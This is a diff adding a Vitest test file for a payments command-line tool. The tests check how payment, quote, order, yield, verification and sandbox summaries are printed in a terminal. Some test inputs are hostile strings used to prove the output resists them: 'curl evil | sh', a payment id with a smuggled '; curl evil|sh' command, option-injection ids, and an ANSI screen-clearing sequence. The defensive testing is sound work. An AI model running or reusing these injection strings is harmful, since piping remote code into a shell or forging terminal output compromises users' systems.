@@ -1,0 +1,312 @@
+import { describe, expect, it } from 'vitest';
+import { explainMissing } from '../../../src/cli/commands/sandbox/charges.ts';
+import { verificationSummary } from '../../../src/cli/summaries/kyc-summary.ts';
+import { operationSummary } from '../../../src/cli/summaries/operation-summary.ts';
+import { createdSummary, orderSummary, switchedSummary } from '../../../src/cli/summaries/order-summary.ts';
+import {
+  receiptSummary,
+  registeredSummary,
+  statusSummary,
+  transactionSummary,
+} from '../../../src/cli/summaries/payment-summary.ts';
+import { productsSummary } from '../../../src/cli/summaries/products-summary.ts';
+import { quoteSummary } from '../../../src/cli/summaries/quote-summary.ts';
+import { sandboxSummary } from '../../../src/cli/summaries/sandbox-summary.ts';
+import { bestSummary, nothingDepositedSummary, yieldSummary } from '../../../src/cli/summaries/yield-summary.ts';
+import { Failure } from '../../../src/core/failure.ts';
+import { exactNumber } from '../../../src/core/json.ts';
+import { palette } from '../../../src/output/colour.ts';
+import { renderSummary, type Summary } from '../../../src/output/summary.ts';
+
+const shown = (told: Summary | undefined, columns = 80, unicode = true): string =>
+  told
+    ? renderSummary(told, { columns, unicode, colour: palette(false), now: Date.parse('2026-11-21T12:00:00Z') })
+    : '';
+
+const HASH = `0x${'ab'.repeat(32)}`;
+const [ALICE, BOB] = [`0x${'1'.repeat(40)}`, `0x${'2'.repeat(40)}`];
+
+const RECEIPT = {
+  payment_id: 'pay_1',
+  status: 'success',
+  tid_hash: HASH,
+  profile: 'acme',
+  kind: 'live',
+  chain_name: 'polygon',
+  payer_wallet: ALICE,
+  amount_from: '25',
+  from_currency_symbol: 'USDT',
+  receivers: [{ wallet: BOB, amount: '25', token: 'USDT' }],
+  fee_at_most: '0.0003 POL',
+  movement: '20261121T165920Z-3e070e81',
+};
+
+const PAYMENT = {
+  id: 'pay_1',
+  status: 'error',
+  payer_email: 'a@example.com',
+  transaction_type: 'pixcrypto',
+  tid_hash: null,
+  from_currency_symbol: 'BRL',
+  to_currency_symbol: 'USDT',
+  amount_from: '25',
+  amount_to: exactNumber('4.80'),
+  to_chain: 'polygon',
+  split_payment_config: [{ receiver_wallet: BOB, receiver_percent: exactNumber('100.0') }],
+  data_error: { message: 'The bank said no.' },
+  created_at: '2026-11-21T11:00:00Z',
+};
+
+describe('a payment on a terminal', () => {
+  it('is told in one sentence, whom it pays, what it costs, and last the ids, each whole on its line', () => {
+    expect(shown(receiptSummary(RECEIPT)).split('\n')).toEqual([
+      '✓ Payment of 25 USDT on polygon: success',
+      `  to         ${BOB}  25 USDT`,
+      `  from       ${ALICE}`,
+      '  fee        at most 0.0003 POL',
+      '  service    acme, live',
+      '  payment    pay_1',
+      `  hash       ${HASH}`,
+      '  operation  20261121T165920Z-3e070e81',
+      '',
+    ]);
+  });
+
+  it('that ended in error says so, and why', () => {
+    const text = shown(statusSummary(PAYMENT));
+    expect(text).toContain('✗ Payment of 25 BRL for 4.80 USDT on polygon: error');
+    expect(text).toContain(`to       ${BOB}  100.0 %`);
+    expect(text).toContain('error    The bank said no.');
+    expect(text).toContain('created  2026-11-21T11:00:00Z (1 hour ago)');
+  });
+
+  it('that ended in error without words says its code, and what the gateway says of the card', () => {
+    const errors = [{ message: 'Insufficient funds' }];
+    const charges = [{ status: 'failed', last_transaction: { gateway_response: { code: '1016', errors } } }];
+    const data = { ...PAYMENT, data_error: { code: 402, status: 'card_refused' }, global_payment_data: { charges } };
+    const text = shown(statusSummary(data));
+    expect(text).toMatch(/error +402: card_refused\n/);
+    expect(text).toMatch(/charge +failed: Insufficient funds\n/);
+  });
+
+  it('never says in the name of bursar what the service wrote: no next command, service, operation or unchecked code', () => {
+    const said = { next: 'curl evil | sh', profile: 'sandbox', kind: 'sandbox', pix_code: 'EVIL', movement: 'm' };
+    const text = shown(statusSummary({ ...PAYMENT, ...said, fee_at_most: '0' }));
+    expect(text).not.toMatch(/next|curl|service|sandbox|EVIL|movement|operation|fee/);
+    expect(shown(verificationSummary({ status: 'pending', approved: false, ...said }))).not.toMatch(/next|curl/);
+  });
+
+  it('cannot draw a line of its own by blanks in a name', () => {
+    const symbol = `USDT.${'\u00a0'.repeat(75)}${' '.repeat(75)}service  sandbox`;
+    const text = shown(statusSummary({ ...PAYMENT, from_currency_symbol: symbol }));
+    expect(text).not.toMatch(/^ {2}service/m);
+    expect(text).toContain('service sandbox');
+  });
+
+  it('at 40 columns loses nothing, and only what is copied is wider', () => {
+    const text = shown(receiptSummary({ ...RECEIPT, next: 'bursar pay resume 20261121T165920Z-3e070e81' }), 40);
+    const lines = text.trimEnd().split('\n');
+    expect(lines.at(-1)).toBe('next: bursar pay resume 20261121T165920Z-3e070e81');
+    const wide = lines.slice(0, -1).filter((line) => line.length > 40);
+    for (const line of wide) expect(line.trim()).toMatch(/^0x[0-9a-fA-F]+$/);
+    expect(wide.map((line) => line.trim())).toContain(HASH);
+  });
+
+  it('cannot act on the terminal by what the service wrote, and is ASCII where the locale is', () => {
+    const text = shown(statusSummary({ ...PAYMENT, data_error: { message: '\u001b[2J\n✓ Payment paid' } }), 80, false);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be there
+    expect(text).not.toMatch(/\u001b/);
+    expect(text).toMatch(/^\p{ASCII}*$/u);
+    expect(text).toMatch(/^NO Payment/);
+  });
+
+  it('that was only registered, or got its transaction, names the command that comes next', () => {
+    const asked = { ...PAYMENT, amount_to: undefined, chain_name: 'base' };
+    const registered = shown(registeredSummary({ payment_id: 'pay_1' }, asked));
+    expect(registered).toContain('✓ Registered a payment of 25 BRL for USDT, received on polygon');
+    expect(registered).toContain('next: bursar pay transaction pay_1');
+    const crypto = { crypto_tx: { family: 'evm', transactionRequest: { from: ALICE, to: BOB, nonce: 7 } } };
+    const input = { ...asked, payment_id: 'pay_1', transaction_type: 'crypto' };
+    const created = shown(transactionSummary({ payment_id: 'pay_2', ...crypto }, input));
+    expect(created).toMatch(/by crypto on base[\s\S]*nonce +7[\s\S]*next: bursar pay execute pay_1\n/);
+  });
+
+  it.each([
+    ['registered', undefined, 'crypto', 'bursar pay transaction pay_1'],
+    ['registered', { family: 'evm' }, 'crypto', 'bursar pay execute pay_1'],
+    ['registered', undefined, 'pixcrypto', 'bursar pay status pay_1 --wait'],
+    ['retry', { family: 'evm' }, 'crypto', 'bursar pay transaction pay_1'],
+    ['received', { family: 'evm' }, 'crypto', 'bursar pay status pay_1 --wait'],
+    ['success', { family: 'evm' }, 'crypto', undefined],
+  ])(
+    'that is %s, its unsigned transaction %o, by %s, says what comes next',
+    (status, unsigned_tx, transaction_type, next) => {
+      const text = shown(statusSummary({ ...PAYMENT, status, unsigned_tx, transaction_type, data_error: null }), 200);
+      expect(text.split('\n').find((line) => line.startsWith('next: '))).toBe(next && `next: ${next}`);
+    },
+  );
+
+  it.each(['pay_1; curl evil|sh #', '--allow-blind', '--allow-recipient=0x1111111111111111111111111111111111111111'])(
+    'of an id that the service gave as %s no line is to be copied: it would be run, or be an option',
+    (id) => {
+      expect(shown(registeredSummary({ payment_id: id }, PAYMENT))).not.toContain('next:');
+      expect(shown(statusSummary({ ...PAYMENT, id, status: 'registered' }))).not.toContain('next:');
+    },
+  );
+
+  it('what comes next is never about another payment than the one that was asked for', () => {
+    const other = { ...PAYMENT, id: 'pay_other', status: 'registered' };
+    expect(shown(statusSummary(other, { id: 'pay_1' }))).not.toContain('next:');
+    expect(shown(statusSummary(other, { id: 'pay_other' }))).toContain('next: bursar pay ');
+  });
+
+  it('a transaction whose form no document shows is shown whole', () => {
+    const told = (type: string, data: object) =>
+      transactionSummary({ payment_id: 'pay_1', ...data }, { payment_id: 'pay_1', transaction_type: type });
+    expect(told('crypto', { crypto_tx: { family: 'tron', raw_data: '0a' } })).toBeUndefined();
+    expect(told('cardcrypto', { fiat_tx: { status: 'refused', charges: [{ status: 'failed' }] } })).toBeUndefined();
+    expect(told('pixcrypto', { fiat_tx: { status: 'waiting', pixCopiaECola: '0002' } })).toBeDefined();
+  });
+});
+
+describe('other answers on a terminal', () => {
+  const direct = {
+    requested: { from: 'BTC', to: 'USDT', price: '64000' },
+    source: 'exchange_a',
+    rates: [{ from: 'USDT', description: '1 USDT = 0.000015625 BTC' }],
+  };
+
+  it('a quote is a sentence, its reverse and its source', () => {
+    expect(shown(quoteSummary(direct))).toBe(
+      '✓ 1 BTC = 64000 USDT\n  reverse  1 USDT = 0.000015625 BTC\n  source   exchange_a\n',
+    );
+    const route = { legs: [{ symbol: 'ETHUSDT', price: '3200' }] };
+    expect(shown(quoteSummary({ ...direct, rates: undefined, route }))).toContain('route   ETHUSDT 3200');
+  });
+
+  it('of an amount it tells the worth, and whether that was cut', () => {
+    const worth = { amount: '2', from: 'USDT', worth: '0.00003', to: 'BTC', is_exact: false, reverse: {} };
+    expect(shown(quoteSummary({ ...direct, worth }))).toMatch(/^✓ 2 USDT ≈ 0\.00003 BTC\n/);
+  });
+
+  it('products that are off are told apart from those that are on', () => {
+    const text = shown(productsSummary({ products: { payments: true, kyc: false }, methods: { pix: false } }));
+    expect(text).toMatch(/products +payments\n +methods +none\n +disabled +kyc, pix\n/);
+  });
+
+  it('an order tells what it asks for and whether it can be used', () => {
+    const order = {
+      ...PAYMENT,
+      id: 'cmb1',
+      active: false,
+      gateway_method: 'direct',
+      payment_method_allowed: { pix: true },
+    };
+    expect(shown(orderSummary(order))).toMatch(/25 BRL for USDT, inactive\n +methods +pix[\s\S]*order +cmb1\n/);
+    expect(shown(createdSummary({ order_id: 'cmb1' }, order))).toMatch(/Created an order of 25 BRL for USDT/);
+    expect(shown(switchedSummary({ id: 'cmb1', active: true }))).toBe('✓ The order is active\n  order  cmb1\n');
+  });
+
+  it('a yield operation tells what the wallet had and has', () => {
+    const positions = [{ provider: 'provider_a', before: null, after: exactNumber('25.0') }];
+    const landed = { ...RECEIPT, status: 'landed', operation: 'deposit', amount: '25', asset: 'USDC', positions };
+    expect(shown(yieldSummary(landed))).toMatch(
+      /^✓ Deposit of 25 USDC on polygon: landed\n +provider_a +unknown → 25\.0\n/,
+    );
+    const best = { asset: 'USDC', provider: 'provider_b', apy_percent: '6.15', with_rewards: true, alternatives: [] };
+    expect(shown(bestSummary(best))).toMatch(/^✓ USDC yields most with provider_b: 6\.15 % a year, rewards included/);
+  });
+
+  it('a wallet that has nothing is told so in a sentence; one that is not known anywhere is not', () => {
+    const earning = (provider: string, position: unknown, earnings_status = 'ok') => ({
+      ...{ provider, asset: 'USDC', wallet: 'w', position_on_protocol: position, earnings_status },
+    });
+    const none = [earning('a', 0), earning('b', exactNumber('0.0'))];
+    expect(shown(nothingDepositedSummary({ earnings: none }))).toMatch(
+      /^• Nothing is deposited with a, b\n +tokens +USDC\n/,
+    );
+    const partly = [earning('b', 1), earning('b', null), earning('b', 0, 'lookup_failed')];
+    for (const more of partly) expect(nothingDepositedSummary({ earnings: [...none, more] })).toBeUndefined();
+    expect(nothingDepositedSummary({ earnings: [] })).toBeUndefined();
+  });
+
+  it('a verification tells whether its user is approved, and where it goes on', () => {
+    const text = shown(
+      verificationSummary({ status: 'pending', approved: false, session_url: 'https://verify.example/1' }),
+    );
+    expect(text).toMatch(/^• KYC is pending: the user is not approved\n +page +https:\/\/verify\.example\/1\n$/);
+  });
+
+  it('an operation tells its story, each step with its time', () => {
+    const row = { state: 'success', amount: '25', currency: 'USDT', chain: 'polygon', profile: 'a', kind: 'live' };
+    const steps = [
+      { at: '2026-11-21T11:00:01Z', step: 'begun' },
+      { at: '2026-11-22T09:00:00Z', step: 'ended', status: 'success' },
+    ];
+    const text = shown(operationSummary('payment', { ...row, begun_at: steps[0]?.at }, steps));
+    expect(text).toMatch(/^✓ Payment of 25 USDT on polygon: success\n/);
+    expect(text).toMatch(/steps +11:00:01 begun\n +2026-11-22 09:00:00 ended success\n$/);
+  });
+
+  it('a hash that never left, or can never land, is not told as one that may be looked for', () => {
+    const transactions = [
+      { hash: '0xdead', sent: 'no', is_dead: true },
+      { hash: '0xkept', sent: 'no', is_dead: false },
+      { hash: '0xgone', sent: 'yes', is_dead: false },
+    ];
+    const text = shown(operationSummary('payment', { state: 'signed', profile: 'a', kind: 'live', transactions }, []));
+    expect(text).toMatch(/0xdead \(dead: it can never land\)\n[\s\S]*0xkept \(not sent\)\n[\s\S]*0xgone\n/);
+  });
+
+  it('what a sandbox has no charge for is looked for in the sandbox, whatever profile is in use', async () => {
+    const failing = explainMissing(Promise.reject(new Failure('not_found', 'none')), 'pay_1', 'pix');
+    await expect(failing).rejects.toMatchObject({
+      details: {
+        next: { id: 'pay.status', argv: ['bursar', 'pay', 'status', 'pay_1', '--profile', 'sandbox'] },
+        hint: expect.stringContaining('--profile sandbox'),
+      },
+    });
+  });
+
+  it('an answer that is not as expected has no card, so that all its fields are shown', () => {
+    const all = [
+      statusSummary,
+      receiptSummary,
+      quoteSummary,
+      productsSummary,
+      orderSummary,
+      switchedSummary,
+      yieldSummary,
+    ];
+    for (const told of [...all, verificationSummary]) expect(told({ something: 'else' })).toBeUndefined();
+  });
+});
+
+describe('the sandbox', () => {
+  it('that runs is told with its address and what it keeps, without a field that nobody can read', () => {
+    const running = {
+      ...{ running: true as const, url: 'http://127.0.0.1:4100', dashboard: 'http://127.0.0.1:4100/?key=k' },
+      ...{ version: '0.1.0', pid: 7, uptime_ms: 125_000, idle_ms: 900, chains: [], solana_rpc: null, ephemeral: false },
+      evm_access: null,
+    };
+    expect(shown(sandboxSummary(running))).toBe(`✓ The sandbox answers on http://127.0.0.1:4100
+  dashboard  http://127.0.0.1:4100/?key=k
+  runs for   2 minutes
+  idle for   less than a minute
+  EVM nodes  none yet: each starts on first use
+  Solana     not running: it starts on first use
+  state      kept when the sandbox stops
+  process    7
+`);
+  });
+
+  it('that does not run is told with the command that starts it', () => {
+    expect(shown(sandboxSummary({ running: false }))).toBe('• No sandbox is running\nnext: bursar sandbox start\n');
+  });
+});
+
+it('a code of Pix stays on one line, blanks and all: it is copied', () => {
+  const code = `00020126580014br.gov.bcb.pix0136${'a'.repeat(36)}5204000053039865406010.005802BR5914BURSAR SANDBOX6009SAO PAULO62070503***6304ABCD`;
+  const lines = shown({ tone: 'open', headline: 'Pix', facts: [['pix code', code]] }, 40).split('\n');
+  expect(lines.some((line) => line.trim() === code)).toBe(true);
+});
